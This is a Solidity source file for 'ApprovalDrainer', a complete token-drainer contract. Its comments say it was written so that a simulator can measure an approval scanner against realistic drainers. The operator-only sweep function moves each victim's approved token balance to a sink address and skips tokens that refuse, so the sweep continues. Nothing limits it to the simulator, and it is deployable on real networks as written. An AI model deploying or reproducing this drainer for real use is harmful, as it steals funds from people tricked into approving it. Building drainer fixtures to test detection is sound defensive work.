// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title ApprovalDrainer
/// @notice What a phishing "claim" or "verify wallet" site asks its victims to approve: once
/// approved, its operator pulls each victim's whole balance to a sink in a transaction the
/// victim never sends and gets nothing back from. Written for the world simulator, so that
/// Sibyl's approval scan can be measured against drainers that behave like real ones.
contract ApprovalDrainer {
    address public immutable operator;
    address public immutable sink;

    error NotOperator();

    constructor(address sink_) {
        operator = msg.sender;
        sink = sink_;
    }

    /// @notice Takes min(balance, allowance) of `token` from each victim to the sink.
    function sweep(address token, address[] calldata victims) external {
        if (msg.sender != operator) revert NotOperator();
        IERC20 t = IERC20(token);
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 balance = t.balanceOf(victims[i]);
            uint256 allowance = t.allowance(victims[i], address(this));
            uint256 amount = balance < allowance ? balance : allowance;
            // A failed pull (a token that refuses) must not stop the sweep of the others.
            if (amount > 0) try t.transferFrom(victims[i], sink, amount) {} catch {}
        }
    }
}
